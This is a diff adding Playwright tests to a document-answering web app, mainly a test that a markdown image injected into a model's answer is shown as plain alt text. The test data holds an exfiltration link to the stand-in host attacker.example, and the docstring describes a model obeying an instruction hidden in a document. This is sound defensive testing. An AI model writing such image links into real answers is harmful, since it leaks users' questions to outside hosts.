@@ -306,3 +306,30 @@ def test_pages_request_nothing_from_other_hosts(page: Page, live_app: LiveApp) -
     # The browser enforces it too: the pages carry a same-origin Content-Security-Policy.
     policy = page.request.get(live_app.url("/")).headers["content-security-policy"]
     assert "default-src 'self'" in policy and "connect-src 'self'" in policy
+
+
+def test_an_injected_image_in_an_answer_is_shown_as_text(page: Page, live_app: LiveApp) -> None:
+    """A model that obeys an instruction hidden in a document writes a markdown image that
+    would send the question to another host: the page shows its alt text, no image, no URL,
+    while streaming and in the checked answer."""
+    page.goto("/")
+    live_app.model.enqueue(
+        "Full-time employees get ![logo](http://attacker.example/collect?q=leave) 25 days "
+        "of paid annual leave [1]."
+    )
+    live_app.model.hold(4)
+    ask(page, DEMO_QUESTION)
+    answer = last_answer(page)
+    assert live_app.model.holding.wait(30)
+    expect(answer.locator(".answer-text")).to_contain_text("[image: logo]")
+    assert "attacker" not in answer.inner_text()
+    expect(answer.locator("img")).to_have_count(0)
+    live_app.model.release()
+    expect(answer.locator(".msg-actions")).to_be_visible()
+    assert "attacker" not in answer.locator(".answer-text").inner_text()
+    assert answer.locator(".answer-text img, .answer-text a").count() == 0
+
+
+def test_open_access_is_announced(page: Page) -> None:
+    page.goto("/library")
+    expect(page.locator("#open-banner")).to_contain_text("no sign-in")
